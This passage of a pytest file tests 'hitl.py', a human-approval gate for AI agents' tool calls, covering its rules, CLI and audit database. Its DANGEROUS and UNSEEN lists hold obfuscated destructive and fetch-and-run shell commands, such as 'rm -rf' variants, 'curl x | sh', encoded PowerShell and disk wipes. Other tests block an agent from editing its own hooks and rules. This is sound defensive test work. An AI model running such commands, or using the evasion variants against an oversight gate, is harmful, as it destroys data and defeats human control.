def test_where_the_file_is_found(tmp_path, monkeypatch):
    """--config, HITL_CONFIG, ./checkpoints.toml, the one beside hitl.py;
    never further up, and a broken link or a wrong path is not passed over."""
    (beside := tmp_path / "tool").mkdir()
    (here := tmp_path / "a").mkdir()
    monkeypatch.setattr(hitl, "__file__", str(beside / "hitl.py"))
    monkeypatch.chdir(here)
    (tmp_path / "checkpoints.toml").write_text(rule())
    with pytest.raises(hitl.ConfigError) as error:
        hitl.find_configuration()
    assert str(error.value).startswith(
        f"no checkpoints.toml in {here} or {beside}")
    (beside / "checkpoints.toml").write_text(rule())
    assert hitl.find_configuration() == beside / "checkpoints.toml"
    (here / "checkpoints.toml").symlink_to("gone")
    assert hitl.find_configuration() == here / "checkpoints.toml"
    monkeypatch.setenv("HITL_CONFIG", "env.toml")
    assert hitl.find_configuration() == here / "env.toml"
    assert hitl.find_configuration("flag.toml") == here / "flag.toml"
    monkeypatch.delenv("HITL_CONFIG")
    assert hitl.find_configuration(local=False) == beside / "checkpoints.toml"
    (gone := tmp_path / "gone").mkdir()
    monkeypatch.chdir(gone)
    gone.rmdir()
    for config in (None, "checkpoints.toml"):
        with pytest.raises(hitl.ConfigError, match="working directory does not"):
            hitl.Gate(config)


# ---- `check` and `init` ----

def test_check_says_which_checkpoint_decides_and_why(tmp_path):
    """`check TOOL JSON` says what becomes of a call, which checkpoint
    decides and why; --json says it to a program."""
    (tmp_path / "rules.toml").write_text(hitl.first_rules())

    def check(*words: str) -> Typed:
        return typed(tmp_path, "check", "--config", "rules.toml", *words)
    assert check("deploy_model", '{"model": "m\\nn"}') == (0, (
        'deploy_model waits for a person: checkpoint "deploy-model" in '
        f"{tmp_path}/rules.toml\n"
        "  because  action_pattern 'deploy_*' finds \"deploy_\" in "
        '"deploy_model"\n'
        "  shown as Deploy model m\u27e6U+000A\u27e7n to (not given)\n"
        "  waits    5 min\n"), "")
    assert json.loads(check("read", "{}", "--json").out) == {
        "tool": "read", "effect": "allow", "checkpoint_id": "unmatched",
        "why": "no checkpoint matches"}
    assert "  but      `python3 hitl.py run` always waits\n" in check("run").out
    done = check("x", '{"table": 1e400}')
    assert (done.status, done.out) == (2, "") and done.err.startswith(
        "hitl: error: JSON of the arguments, like '{\"table\": \"users\"}': 1e400 ")


def test_check_alone_lints_the_file_and_the_installation(desk):
    """`check` alone lists the checkpoints, warns (of one that another covers,
    too), and tries the server; a file that everybody can write is refused."""
    path = desk.folder / "checkpoints.toml"
    path.write_text(rule() + rule('"b"', action_pattern="'Bash(git push:*)'")
                    + rule('"c"', action_pattern='"rm -rf"')
                    + rule('"d"', action_pattern="'rm -rf'", kind='"shell"'))
    path.chmod(0o664)
    status, out, err = typed(desk, "check")
    said = out.splitlines()
    assert (status, err) == (0, "")
    assert said[:2] + said[4:7] == [
        f"{path}: 4 checkpoints, fine", f"  {'a':20} review  delete_*",
        f"  {'d':20} review  shell: rm -rf",
        f"  {'(everything else)':20} allow",
        f"warning: {path} can be written by its group"]
    for line, words in zip(said[7:10], (
            "\"b\": 'Bash(git push:*)' is looked", "\"c\": 'rm -rf' is looked",
            'kind = "shell" is used without an allow list'), strict=True):
        assert line.startswith("warning: ") and words in line
    assert said[7].endswith('did you mean kind = "shell"?')
    assert said[10:] == [f"server {desk.url}: answers"]
    assert f"server {SILENT}: no answer" in typed(
        desk, "check", HITL_SERVER_URL=SILENT).out
    listed = json.loads(typed(desk, "check", "--json").out)
    assert listed["checkpoints"] == list("abcd")
    assert (listed["server"], len(listed["warnings"])) == ("answers", 4)
    refused = typed(desk, "check", HITL_SERVER_URL="localhost:8765")
    assert refused.status == 2 and "error: server_url" in refused.err
    for wide, narrow, effect, covered in (
            ("delete_*", "delete_users", "review", True), (".*", "x|y", "allow", True),
            ("del", "delete_*", "review", True), ("dele", "del*", "review", False),
            ("delete", "delete_x", "allow", False)):
        path.write_text(rule(action_pattern=f"'{wide}'", effect=f'"{effect}"')
                        + rule('"b"', action_pattern=f"'{narrow}'"))
        assert covered == ('checkpoint "b" never decides: "a" above it matches the '
                           "same calls" in typed(desk, "check").out), narrow
    path.write_text('[gate]\nunmatched = "review"\n' + rule(kind='"shell"'))
    assert "allow list" not in typed(desk, "check").out
    path.chmod(0o666)
    assert typed(desk, "check", "--json").status == 2
    assert typed(desk, "check") == (2, "", (
        f"hitl: error: {path} can be written by everybody\n"
        f"hitl: hint: chmod go-w {path}\n"))


def test_init_writes_four_rules_and_never_overwrites(tmp_path, monkeypatch):
    """`init` writes beside hitl.py: the shipped file, which has the mission's
    three, and a rule for money; what is there stays, a broken link too."""
    tool, path = tmp_path / "tool", tmp_path / "tool" / "checkpoints.toml"
    tool.mkdir()
    monkeypatch.setattr(hitl, "__file__", str(tool / "hitl.py"))
    assert typed(tmp_path, "init") == (
        0, f"wrote {path}; next: python3 hitl.py serve\n", "")
    shipped = (HERE / "checkpoints.toml").read_text()
    assert path.read_text().replace(hitl.PAY_RULE, "") == shipped
    rules = hitl.load_configuration(path)
    assert [(c.checkpoint_id, c.category) for c in rules.rules.checkpoints] == [
        ("deploy-model", "high-impact"), ("external-request", "data-risk"),
        ("delete-records", "destructive"), ("pay", "high-impact")]
    assert rules.gate["timeout_seconds"] == 300
    for name in """deleteUser drop_table remove_member purge truncate wipe_disk
            deploy send_mail pay_invoice charge_card refund transfer_funds
            purchase""".split():
        assert rules.rules.first_match(name, {}).effect == "review", name
    assert rules.rules.first_match("get_payload", {}).effect == "allow"
    (tmp_path / "link").symlink_to("gone")
    for there in (path, tmp_path / "link"):
        assert typed(tmp_path, "init", "--config", str(there)) == (2, "", (
            f"hitl: error: {there} already exists\n"
            "hitl: hint: it was not changed; move it away to get a new one, or "
            "go on with python3 hitl.py serve\n"))
    assert not (tmp_path / "gone").exists()


def uncommented(text: str) -> str:
    """The rules that a file holds as comments."""
    return "".join(found[0].replace("# ", "", 1).replace("\n# ", "\n")
                   for found in re.finditer(
                       r"(?m)^# \[\[checkpoint\]\].*\n(?:# \w+ = .*\n)+", text))


DANGEROUS = cases(r"""
    true; rm -rf x@@f() { rm -rf x; }; f@@$"rm" -rf x@@/usr/bin/rm -rf x
    rm$IFS-rf${IFS}x@@env -i PATH=/bin rm -rf x@@ls | parallel rm
    ssh host 'rm -rf x'@@alias q='rm -rf'; q x@@PROMPT_COMMAND='rm -rf x'
    echo "a # b" && rm -rf x@@echo a #\\\nrm -rf x@@echo a;#\nrm -rf x
    cat <(rm -rf x)@@echo \u200brm -rf x@@rm\xa0-rf x@@find . -exec rm {} +
    unlink x@@mv x /tmp/trash@@npx rimraf x@@ri x -r -fo@@find . -name x -delete
    rsync -a --delete empty/ x/@@rclone purge r:x@@Remove-Item -Recurse x
    redis-cli FLUSHALL@@[IO.File]::Delete('x')@@psql -c 'DROP TABLE users'
    git clean -fdx@@git reset --hard@@git worktree remove w@@git branch -D main
    git\tpush origin main@@git -C . push --force@@git --git-dir /r/.git push
    git pu"sh"@@git ${x:-push}@@git -c alias.p=push p@@git.exe push@@hub push
    git -C r commit -m x && git -C r push@@gh repo sync o/r --force
    terraform -chdir=prod apply@@docker run hashicorp/terraform -chdir=/p destroy
    kubectl -n prod delete pod x@@echo cm0= | base64 -d | env -u A bash
    curl x | timeout 5 sh@@printf '\\162m -rf x' | tcsh@@irm x/i.ps1 | iex
    bash -cx 'r""m -rf x'@@bash <(curl -s https://x.example/i)@@bash < script.txt
    eval x@@deno eval 'Deno.removeSync("x")'@@perl -e 'unlink glob "x/*"'
    python3 -c "import os; os.system('r'+'m -rf x')"@@iex ('r'+'m x')
    node -e "require('fs').rmSync('x')"@@php -r 'f("x");'@@source ./x.sh
    echo cm0gLXJmIHg= | base64 -d > s; chmod +x s; ./s@@cp /dev/null x
    $'\\x72m' -rf x@@$'\\162\\155' -rf x@@source <(curl x)@@true; . <(curl x)@@. <(x)
    curl x | python3@@curl x | perl -@@git send-pack origin main@@hg push@@tf apply
    pulumi destroy@@docker push x@@pnpm publish@@dropdb x@@dd of=/dev/sda < x
    mkfs.ext4 /dev/sda@@del /f /q x@@cmd /c "rd /s /q x"@@Clear-Content x
    powershell -enc cgBtACAAeAA=@@powershell -EncodedCommand cgBtACAAeAA=
    """)
UNSEEN = cases(r"""
    /bin/r? -rf x@@a=r; b=m; $a$b -rf x@@r${u}m -rf x@@r{m,} -rf x@@: > x
    set -- r m; "$1$2" -rf x@@python3 < script@@npm run clean@@busybox --install .
    robocopy empty x /mir
    """)
HARMLESS = cases(r"""
    ls -la@@git status --short && git diff --stat@@cat a | grep b
    git log --oneline -5@@git rev-parse HEAD@@which python3 || echo none
    find . -name '*.ts' -not -path './node_modules/*' | wc -l
    sed -n '1,80p' src/app.py@@test -f x && echo yes || echo no@@echo "it's"
    awk '{print $1}' f | sort | uniq -c | sort -rn | head
    ls | grep sh@@ls -l | grep -v grep | grep bash
    """)
ORDINARY_WORK = cases(r"""
    pytest -q@@echo "built at $(date)"@@for f in *.py; do echo $f; done
    git commit -m "$(cat <<'EOF'\nFix the parser\n\nBy: A <a@b.c>\nEOF\n)"
    git commit -m 'clean, push later'@@git stash && git pull && git stash pop
    git fetch origin && git rebase origin/main@@terraform plan -out=p
    python3 - <<'EOF'\nprint(1+1)\nEOF@@python3 -c 'print(1)'@@cat <<< 'hello'
    curl -s http://localhost:3000/api | jq '.items[] | {id, name}'@@VAR=1 ./run.sh
    . .venv/bin/activate && python app.py@@gh pr create --body "$(cat body.md)"
    chmod +x run.sh && ./run.sh@@${PYTHON:-python3} -m build@@npx tsc --noEmit
    printf 'a\\nb\\n' > f.txt@@ls *.{js,ts}@@docker run --rm -it x
    cat x | python3 -m json.tool@@cat > run.sh <<'EOF'\necho hi\nEOF
    source venv/bin/activate@@echo it\\'s
    printf $'\\x1b[1mok\\033[0m\\n'@@IFS=$'\\n\\t'@@cat x | python3 fmt.py
    pwsh -ExecutionPolicy Bypass -File a.ps1
    """)


def test_the_tripwires_hold_most_of_what_is_dangerous(make_rules):
    """The commented tripwires of `init` hold most of what is dangerous and
    little of what agents do all day, however long it is; what nobody could
    list passes them."""
    text = uncommented(hitl.first_rules())
    rules = make_rules(text)
    assert len(rules.checkpoints) == text.count("[[checkpoint]]") == 18

    def waits(command: str) -> bool:
        return rules.first_match("Bash", {"command": command}).effect != "allow"
    assert [text for text in DANGEROUS if not waits(text)] == []
    assert [text[:80] for text in (*HARMLESS, *ORDINARY_WORK, *UNSEEN,
                                   "ls # " + "git x y " * 3000) if waits(text)] == []


@pytest.fixture
def coding(tmp_path, monkeypatch):
    """The rules of `init --coding-agent` for a project, and its folder."""
    (tool := tmp_path / "tool").mkdir()
    (project := tmp_path / "project").mkdir()
    monkeypatch.setattr(hitl, "__file__", str(tool / "hitl.py"))
    monkeypatch.chdir(project)
    assert hitl.main(["init", "--coding-agent"]) == 0
    text = (tool / "checkpoints.toml").read_text()
    assert "\n# with them" not in text and "# Builds and tests run what" in text
    for written in (text, text + uncommented(text)):
        (project / "rules.toml").write_text(written)
        rules = hitl.load_configuration(project / "rules.toml").rules
    assert rules.named("build-1").effect == "allow"
    return hitl.load_configuration(tool / "checkpoints.toml").rules, project


@pytest.mark.skipif(os.name == "nt", reason="nothing opens there")
def test_a_coding_agents_commands_wait_unless_listed(coding):
    """Under `init --coding-agent` no dangerous command runs unasked, commands
    that only read do, and a text that names hitl.py is denied."""
    rules, project = coding

    def effect(command: str) -> str:
        return rules.first_match("Bash", {"command": command},
                                 str(project)).effect
    assert {effect(text) for text in DANGEROUS + UNSEEN + ORDINARY_WORK} == {"review"}
    assert {effect(text) for text in HARMLESS} == {"allow"}
    for text in cases(r"""git log --output=x@@git diff --ext-diff@@git log -x
            git log '--output=x'@@git -c core.pager=x log@@sed -n '1p' -i f
            sed -n '1,3w x' f@@find . '-delete'@@find . -del"ete"@@sort -o x
            find . -exec rm@@find . -fprint x@@uniq a b@@awk '{system(1)}'
            test -v 'a[$(x)]'@@printf -v x@@git branch -D x@@git branch new
            git logx@@rg --pre x@@date -s x@@file -C@@git remote add x y@@cd x
            pytest@@make@@git grep -Ox y@@git stash@@env@@which@@grep -r x /
            grep x ''/y@@grep -r x a/../..@@git diff --no-index /a /b@@
            """.replace("\n            ", "\n    ")):
        known = effect(text) == "review" or text in ("git log -x", "which")
        assert known, text
    for text in ("cat hitl.py", "python3 ../tool/hitl.py serve",
                 "python3 -m hitl serve", "cat /proc/7/environ",
                 "cat x/../proc/1/environ", "cat /./proc/1/environ",
                 "cat /dev/fd/../../1/environ",
                 "python3 -c 'import hitl'", "echo x; h''itl.py"):
        assert effect(text) == "deny", text
    for tool, arguments in (
            ("dispatch", {"toolName": "Bash", "command": "rm x"}),
            ("Bash", {"exec": "rm x"}), ("Bash", {"executable": "rm"}),
            ("code_interpreter", {"code": "rm"}), ("ruby", {"code": "rm"})):
        assert rules.first_match(tool, arguments).effect == "review", tool


def test_a_coding_agent_cannot_edit_its_leash(coding):
    """Edits in the project and in /tmp run but for the files that hold the
    agent; those elsewhere wait. What holds it: what `hook --snippet` names
    and its local twins, the rules, hitl.py, its database and folder, .git; by
    the resolved path as well. Reads run."""
    rules, project = coding
    (project / "notes.md").symlink_to(project.parent / "tool/checkpoints.toml")
    (project / "lib").symlink_to(project.parent / "tool")

    def effect(path: str, tool: str = "Write") -> str:
        return rules.first_match(tool, {"file_path": path},
                                 str(project)).effect
    for where, _ in hitl.SNIPPETS.values():
        assert effect(where.partition(" (")[0]) == "deny", where
    for path in """.claude/settings.local.json .gemini/settings.local.json
            .clinerules/hooks/PreToolUse .opencode/plugin/hitl.js
            .github/hooks/hitl.json .CLAUDE/settings.json hitl.py hitl.db
            checkpoints.toml hitl.db-wal ../tool/new.py notes.md lib/x .git
            .git/config sub/.git/hooks/x sub/HEAD ./x/../hitl.py /home/u/.bashrc
            /home/u/.gitconfig %2egit/config .claude .codex/ ../tool lib
            .claude.json .cursor/mcp.json .claude/hooks/x.sh .envrc
            """.split():
        assert effect(path) == "deny", path
        assert effect(path, "delete_file") == "deny", path
    for path in """/etc/profile /usr/local/bin/ls ~/.local/bin/ls
            ~/.ssh/authorized_keys ~/.cache/hitl/x.pyc file:///etc/hosts /TMP/x
            ../../../../../../../../../../etc/cron.d/x""".split():
        assert effect(path) == "review", path
    for path in f"""src/a.py README.md .gitignore .github/workflows/ci.yml
            /tmp/x.txt {project}/a.py ./src/../b.py
            head.py .claude/commands/x.md settings.json""".split():
        for tool in ("Write", "Edit", "delete_file"):
            assert effect(path, tool) == "allow", path
    assert effect("../tool/hitl.py", "read_file") == "allow"
    call = {"command": "apply_patch <<'E'\n*** Begin Patch\n*** Update File: "
            "notes.md\n*** End Patch\nE"}
    assert rules.first_match("Bash", call, str(project)).effect == "deny"
    for name in ("mcp__db__delete_rows", "mcp-db-delete_rows", "mcp.db.sendMail",
                 "MCP:db:drop"):
        assert rules.first_match(name, {}).effect == "review", name


# ================================== Store ==================================
# The database itself refuses what must not happen, whatever is above it; the
# Store's methods make every move that may happen; files that are not ours, or
# not whole, are not opened; the audit log shows what was done to it.

PATHS = {                           # the legal way into each state
    "waiting": "", "approved": "approve", "rejected": "reject",
    "expired": "withdraw:timeout", "withdrawn": "withdraw",
    "running": "approve claim", "executed": "approve claim finish",
    "failed": "approve claim finish:failed", "lapsed": "approve +99 expire"}


def asking(store, name="r-1", life="", tool="delete", **more):
    """What an agent asks, in a session, with arguments that may change."""
    fields = {"action_description": "Delete", "arguments": '{"table":"users"}',
              "agent_context": "{}", "agent": "a", "asked_by": "agent:a",
              "session": "s-1", "checkpoint_id": "delete", "edits": 1,
              "checkpoint_digest": "1" * 64} | more
    return hitl.ReviewRequest(
        name, "waiting", None, hitl.digest_of(
            fields["action_description"], fields["arguments"], tool),
        hitl.instant(store.time + float(life)) if life else None,
        received_at=store.now, timestamp=store.now, tool=tool, **fields)


def put(store, name="r-1", life="", **more):
    """A request into the turn -> (summary, whether it is new)."""
    return store.submit(asking(store, name, life, **more))


def turn(store, change, *args, **more):
    """One turn with one change -> what it gives, or the refusal's reason."""
    def told():
        try:
            return change(*args, **more)
        except hitl.Refusal as refusal:
            return refusal.reason
    store.tick()
    result = store.attempt(told)
    assert store.commit() is not None and not store.db.in_transaction
    return result


def act(store, step, name="r-1"):
    """One turn with one request -> its outcome or status after it, or the
    reason of the refusal. A step is a word of the Store's, and for some a
    value: `ask:30` asks with 30 seconds to live, `withdraw:timeout` says why,
    `edit:pets` approves with another table, `claim:other` names another
    digest, `claim:pets` that of the edit, `claim:n-2` comes with another
    nonce than n-1, `finish:failed` did not go well, `stop` and `lift` are for
    everything; `+30` turns the clock. A step in a story may say what it
    expects: `claim=running`."""
    verb, _, value = step.partition(":")
    nonce = value if value == "n-2" else "n-1"
    outcome = hitl.Outcome(value if value == "failed" else "executed")
    table = value if value in ("pets", "other") else "users"
    digest = hitl.digest_of("Delete", '{"table":"%s"}' % table, "delete")
    ana = {"by": "reviewer:ana", "signed_in": "token", "reason": "no"}
    if verb[0] == "+":
        store.clock.time += float(verb)
        verb = "look"
    changes = {
        "look": str, "ask": lambda: put(store, name, value),
        "attach": lambda: store.submit(asking(store, name), attach=True),
        "withdraw": lambda: store.withdraw(name, value or "gone", "agent:a"),
        "claim": lambda: store.claim(name, digest, nonce, "agent:a",
                                     value == "handed"),
        "finish": lambda: store.finish(name, nonce, outcome, "", "agent:a"),
        "expire": lambda: store.expire(store.request(name)),
        "sweep": lambda: [*map(store.close_overdue, store.overdue())],
        "stop": lambda: store.stop(**ana), "lift": lambda: store.lift(
            store.stop_in_force.number, "reviewer:ana"),
        "approve": lambda: store.decide(name, hitl.Status.APPROVED, **ana),
        "edit": lambda: store.decide(name, hitl.Status.APPROVED, **ana,
                                     arguments={"table": table}),
        "reject": lambda: store.decide(name, hitl.Status.REJECTED, **ana)}

    def change():
        changes[verb]()
        request = store.request(name)
        # what a poll is told out of memory is what is stored
        polled = store.summary(name, request.asked_by)
        assert polled[:len(hitl.SUMMARY)] == request[:len(hitl.SUMMARY)]
        return str(request.outcome or request.status)
    return turn(store, change)


def play(store, story, name="r-1"):
    """A story of one request, step by step -> what it has become."""
    return [act(store, step, name) for step in story.split()][-1]


def names(store):
    return [there.request_id for there in store.waiting(999)]


def edited(path):
    """A connection that is not the Store's, with no transaction open."""
    return contextlib.closing(sqlite3.connect(path, isolation_level=None))


def chain_faults(path):
    with hitl.open_for_reading(path) as db:
        return list(hitl.audit_faults(db))


def together(count, function):
    """function(0), function(1) ... at once -> their values."""
    return [value() for value in
            [in_background(function, n) for n in range(count)]]


@pytest.fixture
def store(tmp_path):
    it = hitl.open_store(tmp_path / "hitl.db", Clock())
    it.db.execute("PRAGMA synchronous = OFF")       # no power is lost in a test
    yield it
    it.close()


def remembered(store, name="r-1", decision="approved", seconds=3600, uses=9,
               **more):
    """A decision that stands for the same call of the same session."""
    turn(store, put, store, name, **more)
    return turn(store, store.decide, name, hitl.Status(decision),
                "reviewer:ana", remember=hitl.Bounds(seconds, uses))


def same(store, name, attach=False, **more):
    """The same call asked again -> the request that answers it."""
    told = turn(store, store.submit, asking(store, name, **more), attach)
    return told if isinstance(told, str) else store.request(told[0].request_id)


@pytest.fixture(scope="session")
def used(tmp_path_factory):
    """The bytes of a database with a request in every state."""
    it = hitl.open_store(tmp_path_factory.mktemp("used") / "hitl.db", Clock())
    it.db.execute("PRAGMA synchronous = OFF")
    play(it, "ask edit:pets claim:pets finish", "edited")
    remembered(it, "again-0", session="s-9")
    assert same(it, "again-1", session="s-9").standing == 1
    play(it, "stop lift", "again-1")
    for state, story in PATHS.items():
        assert play(it, "ask:99 " + story, state) == state
    it.close()
    return it.path.read_bytes()

@pytest.fixture
def every(tmp_path, used):
    """The path of a copy."""
    path = tmp_path / "hitl.db"
    path.write_bytes(used)
    return path

@pytest.fixture
def unlocked(every):
    """The copy, open, with no trigger in the way of an edit."""
    with edited(every) as db:
        for name, in db.execute("SELECT name FROM sqlite_master WHERE "
                                "type = 'trigger'").fetchall():
            db.execute(f"DROP TRIGGER {name}")
        yield db


# ---- what the schema refuses by itself ----

def allowed(db, sql, *values):
    """Whether a statement changes anything (it is then undone)."""
    db.execute("BEGIN")
    try:
        return db.execute(sql, values).rowcount > 0
    except sqlite3.IntegrityError:
        return False
    finally:
        db.execute("ROLLBACK")


SET = "UPDATE pending_reviews SET "


def test_the_database_allows_only_the_arrows(every):
    """Only what waits can become something else; an outcome moves from none
    to running or lapsed, from running to its end, and keeps its claim."""
    words, ends = {*map(str, hitl.Status)}, [None, *map(str, hitl.Outcome)]
    fates = {"approved": {("running", "n-1"), ("running", "n-2"),
                          ("lapsed", None)},
             "running": {("executed", "n-1"), ("failed", "n-1")}}
    move, end = (f"UPDATE pending_reviews SET {what} WHERE request_id = ?"
                 for what in ("status = ?, decided_by = ?, decided_at = ?",
                              "outcome = ?, claim = ?"))
    with edited(every) as db:
        for old in PATHS:
            assert {new for new in words if allowed(
                db, move, new, "reviewer:b" if new in ("approved", "rejected")
                else None, None if new == "waiting" else "now", old)} == (
                    words - {"waiting"} if old == "waiting" else set()), old
            assert {(new, nonce) for new in ends
                    for nonce in ("n-1", "n-2", None)
                    if allowed(db, end, new, nonce, old)} == fates.get(
                        old, set()), old


INSERT = ("INSERT {} INTO pending_reviews (request_id, digest, received_at, "
          "timestamp, asked_by, action_description, agent_context, size, "
          "asked_sha256{}) VALUES ('{}', printf('%064d', 0), 'x', 'x', "
          "'agent:a', 'other', '{{}}', 1, ''{})")
DECIDE = SET + "status = '{}', decided_at = 'x'{}"
STANDS = ("INSERT INTO standing_decisions (number, request_id, decision, until, "
          "uses, made_by, made_at, digest, checkpoint_id, checkpoint_digest, "
          "session, principal) SELECT 9, request_id, '{1}', {2}, {3}, "
          "'reviewer:ana', '2027-01-15T08:00:00.000Z', digest, checkpoint_id, "
          "checkpoint_digest, session, asked_by FROM pending_reviews WHERE "
          "request_id = '{0}'")
AUDIT = ("{} INTO audit_log VALUES ({}, 'x', 'approved', 'w', 'x', '', '', "
         "'')")
NEVER = [
    DECIDE.format("approved", ""), DECIDE.format("rejected", ""),
    *(DECIDE.format("approved", f", decided_by = '{who}'")
      for who in ("", "ana", "reviewer:", "agent:ana")),
    DECIDE.format("expired", ", decided_by = 'reviewer:ana'"),
    DECIDE.format("maybe", ""), SET + "status = 'expired'",
    DECIDE.format("approved", ", decided_by = 'reviewer:a', outcome = "
                  "'running', claim = 'c'"),
    SET + "claim = 'c'", "DELETE FROM pending_reviews",
    SET + "outcome_text = 'x' WHERE request_id = 'approved'",
    SET + "handed_over = 1 WHERE request_id = 'running'",
    DECIDE.format("approved", ", decided_by = 'reviewer:ana', said_at = 'x', "
                  "standing = 1"),
    DECIDE.format("rejected", ", decided_by = 'reviewer:ana', said_at = 'x', "
                  "standing = 2"),
    *(DECIDE.format(word, ", decided_by = 'reviewer:ana', approved_digest = "
                    f"printf('%064d', 0), approved_arguments = {text}")
      for word, text in (("rejected", "'{}'"), ("approved", "NULL"))),
    *(f"UPDATE standing_decisions SET {column} = {value}"
      for column, value in (("until", "'3'"), ("uses", "50"), ("number", "9"),
                            ("lifted_at", "NULL, lifted_by = NULL"),
                            ("lifted_at", "'x', lifted_by = 'agent:a'"))),
    "DELETE FROM standing_decisions",
    *(STANDS.format(*values) for values in (
        ("again-0", "approved", "'2027-01-15T16:00:01.001Z'", 9),
        ("again-0", "approved", "'2027-01-15T10:00:00.000Z'", 51),
        ("again-0", "approved", "'2027-01-15T10:00:00.000Z'", "NULL"),
        ("again-0", "approved", "NULL", 9),
        ("again-0", "rejected", "'2027-01-15T10:00:00.000Z'", "NULL"),
        ("again-1", "approved", "'2027-01-15T10:00:00.000Z'", 9),
        ("edited", "approved", "'2027-01-15T10:00:00.000Z'", 9),
        ("waiting", "approved", "'2027-01-15T10:00:00.000Z'", 9))),
    "INSERT INTO votes VALUES ('waiting', 'agent:a', 'approved', 'x', '', '')",
    SET + "rowid = 99 WHERE request_id = 'waiting'",
    *(SET + f"{column} = {column} || '1'" for column in
      ("id", "asked_sha256", *hitl.ASKED)),                     # promise 2
    INSERT.format("", ", status, decided_at, decided_by", "new",
                  ", 'approved', 'x', 'reviewer:ana'"),
    INSERT.format("", ", outcome", "new", ", 'lapsed'"),
    INSERT.format("", "", "", ""), INSERT.format("", "", "n" * 129, ""),
    *(INSERT.format(instead, "", "waiting", "") + end
      for instead, end in [("", ""), ("OR REPLACE", ""),
                           ("", " ON CONFLICT (request_id) DO UPDATE SET "
                            "action_description = 'other'")]),
    "UPDATE audit_log SET detail = detail", "DELETE FROM audit_log",
    *(AUDIT.format("INSERT", n) for n in (-1, 0, 1)),
    AUDIT.format("REPLACE", 1)]


def test_the_database_refuses_by_itself(every):
    """An approval without a reviewer, a request that begins decided, a
    change of what was asked, a deletion, an edit of the audit log: none
    gets past the schema, whatever the status."""
    with edited(every) as db:
        assert [sql for sql in NEVER if allowed(db, sql)] == []
        assert allowed(db, INSERT.format("", "", "new", ""))
        assert allowed(db, STANDS.format(
            "again-0", "approved", "'2027-01-15T16:00:00.000Z'", 50))
        assert allowed(db, AUDIT.format("INSERT", 999))


# ---- every move that may happen, by the Store's methods ----

STORIES = {
    "a decision is final":
        "ask reject=rejected approve=already-decided withdraw=rejected "
        "claim=not-approved",
    "a withdrawal tells who was faster":
        "ask approve=approved withdraw=approved withdraw:timeout=approved",
    "what was withdrawn cannot be approved":
        "ask withdraw=withdrawn approve=withdrawn",
    "silence is not consent":
        "ask withdraw:timeout=expired approve=expired claim=not-approved",
    "one approval runs one call, once; a lost reply is asked for again":
        "ask claim=not-approved approve claim:other=arguments-changed "
        "claim=running claim=running claim:n-2=already-claimed "
        "finish:n-2=not-claimed finish=executed finish=executed "
        "finish:failed=already-finished claim=already-claimed",
    "a request expires at its deadline, not before":
        "ask:30 +29.999 sweep=waiting +0.001 sweep=expired approve=expired",
    "a decision at the deadline is too late even before the sweep":
        "ask:30 +30 approve=expired sweep=expired",
    "without a deadline nothing expires or lapses":
        "ask +1e9 sweep=waiting approve +1e9 sweep=approved claim=running",
    "an approval lapses at the deadline, before the sweep as after it":
        "ask:300 +240 approve +59.999 sweep=approved +0.001 claim=lapsed "
        "sweep=lapsed claim=lapsed finish=not-claimed",
    "or a minute after the decision if that is later":
        "ask:30 +29 approve +59.999 sweep=approved +0.001 sweep=lapsed",
    "the claim names the digest of what will run":
        "ask edit:pets=approved claim=arguments-changed claim:pets=running "
        "claim:pets=running finish=executed",
    "a change that changes nothing is a plain approval":
        "ask edit:users=approved claim:pets=arguments-changed claim=running",
    "the end of what is handed over may be told":
        "ask approve claim:handed=running finish=executed",
    "the same call attaches while it is open":
        "ask attach=waiting approve attach=approved claim=running "
        "attach=running",
    "after a stop nothing is approved, claimed or asked, until it is lifted":
        "ask approve stop claim=stopped ask=stopped attach=stopped lift "
        "claim=running",
    "what waited at a stop is rejected and stays so":
        "ask stop approve=stopped sweep=rejected lift approve=already-decided",
    "an approval lapses during a stop too":
        "ask:30 approve stop +100 sweep=lapsed lift",
    "a deadline that passes during a stop is a deadline":
        "ask:30 stop +31 sweep=expired lift",
    "a stop that is lifted in time rejects nothing":
        "ask stop lift sweep=waiting approve=approved",
    "what there is not is unknown": "approve=unknown claim=unknown"}


def test_the_moves_of_a_request(store):
    """Each story ends step by step as it says, with one audit row a move."""
    for number, (sentence, story) in enumerate(STORIES.items()):
        for step in story.split():
            step, _, expected = step.partition("=")
            became = act(store, step, f"r-{number}")
            assert expected in ("", became), (sentence, step)
    assert store.waiting_count == len(names(store)) == 0
    assert chain_faults(store.path) == []


def test_a_decision_is_recorded_with_its_reviewer(store):
    """A decision names its reviewer, how they signed in, when and why; who
    comes too late is told, and what the clock ended names the server."""
    play(store, "ask:9 reject")
    there = store.request("r-1")
    assert (there.decided_by, there.decided_at, there.reason, there.signed_in
            ) == ("reviewer:ana", store.now, "no", "token")
    with pytest.raises(hitl.Refusal, match="this request was rejected by ana "
                       f"at {there.decided_at}"):
        store.decide("r-1", hitl.Status.APPROVED, "reviewer:bob")
    play(store, "ask:9 +9 sweep", "r-2")
    assert store.db.execute("SELECT event, actor FROM audit_log").fetchall(
        ) == [("submitted", "agent:a"), ("rejected", "reviewer:ana"),
              ("submitted", "agent:a"), ("expired", "server")]


def test_what_was_damaged_is_neither_approved_nor_run(store):
    """What is stored no longer has its digest: it cannot be approved, nor
    an approval of it claimed (promise 2)."""
    play(store, "ask", "r-1")
    play(store, "ask approve", "r-2")
    with edited(store.path) as db:
        db.execute("DROP TRIGGER asked_once")
        db.execute(SET + "action_description = 'Read'")
    assert act(store, "approve") == act(store, "claim", "r-2") == "damaged"
    assert names(store) == ["r-1"]


def test_a_move_is_from_the_state_that_was_read(store):
    """A request that was decided since it was read is not moved again."""
    play(store, "ask:9")
    read = store.request("r-1")
    play(store, "approve +9")
    assert turn(store, store.close_overdue, read) == "damaged"
    assert store.request("r-1").status == "approved"


def test_of_twelve_at_once_one_wins(desk):
    """The same request sent twelve times at once is one row, one 201; of
    twelve decisions one is recorded and the others learn which."""
    codes = together(12, lambda n: desk.post(
        timestamp=n, agent_context={"attempt": n}).status)
    assert sorted(codes) == [200] * 11 + [201]
    other = desk.post(action_description="Delete everything")
    assert (other.status, other.reason) == (409, "id-taken")
    replies = together(12, lambda n: desk.reviewer(f"r{n}").exchange(
        "POST", "/approve/r-1", {"decision": "approved"}, seconds=10))
    won, = [r.body for r in replies if r.status == 200]
    lost = [r.body["request"] for r in replies if r.status == 409]
    assert len(lost) == 11 and all(body == won for body in lost)
    assert desk.rows("SELECT event, actor FROM audit_log") == [
        ("submitted", "agent:unauthenticated"), ("approved", won["decided_by"])]


def test_a_full_desk_refuses_what_is_new(store, monkeypatch):
    """Over the limit of an agent's name, of a credential or of all, a new
